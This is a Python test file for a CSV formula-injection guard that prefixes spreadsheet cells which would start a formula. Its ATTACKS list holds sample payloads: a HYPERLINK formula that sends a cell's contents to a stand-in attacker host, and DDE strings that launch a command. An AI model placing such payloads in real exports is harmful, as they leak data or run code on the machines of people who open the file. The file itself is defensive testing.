"""Formula injection in released text files (OWASP "CSV Injection"), on a hand-made frame."""

from __future__ import annotations

import csv
import io

import polars as pl

from apps.engine.formula_guard import FORMULA_TRIGGERS, guard_formulas

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_cell_that_starts_a_formula_is_prefixed_and_nothing_else():
    frame = pl.DataFrame(
        {
            "comment": [*ATTACKS, "fine", "a=b", " =1", None],
            "amount": [-5, -1, 0, 1, 2, 3, 4, 5, 6, 7],  # numbers: never touched
            "balance": [-5.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
            # text: a plain signed number is a number to a spreadsheet; the rest is prefixed
            "code": ["-5", "-2+3", "+3.25", "-5%", "-1,234.5", "-2e3", "+A1", "-", "x", "y"],
        }
    )
    guarded, counts = guard_formulas(frame)
    assert counts == {"comment": 6, "code": 4}
    assert guarded["comment"].to_list() == [
        *("'" + a for a in ATTACKS),
        "fine",
        "a=b",
        " =1",
        None,
    ]
    assert guarded["code"].to_list() == [
        *("-5", "'-2+3", "+3.25", "'-5%", "-1,234.5", "-2e3", "'+A1", "'-", "x", "y")
    ]
    assert guarded["amount"].to_list() == frame["amount"].to_list()
    assert guarded["balance"].to_list() == frame["balance"].to_list()
    assert guarded.schema == frame.schema
    # the CSV a recipient opens: no text cell begins with a trigger character
    text = guarded.write_csv()
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    cells = [row[i] for row in rows for i in (0, 3)]
    assert len(cells) == 20
    starting = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert starting == ["-5", "+3.25", "-1,234.5", "-2e3"]  # plain numbers only
    assert rows[0][1:] == ["-5", "-5.5", "-5"]  # numbers stay numbers


def test_categorical_columns_are_text_and_a_frame_without_text_is_returned_as_is():
    frame = pl.DataFrame({"sex": pl.Series(["=F", "M"]).cast(pl.Categorical)})
    guarded, counts = guard_formulas(frame)
    assert (guarded["sex"].to_list(), counts) == (["'=F", "M"], {"sex": 1})
    numbers = pl.DataFrame({"n": [-1, -2]})
    assert guard_formulas(numbers) == (numbers, {})
    clean = pl.DataFrame({"s": ["a", "b"]})
    same, none = guard_formulas(clean)
    assert same.equals(clean) and none == {}
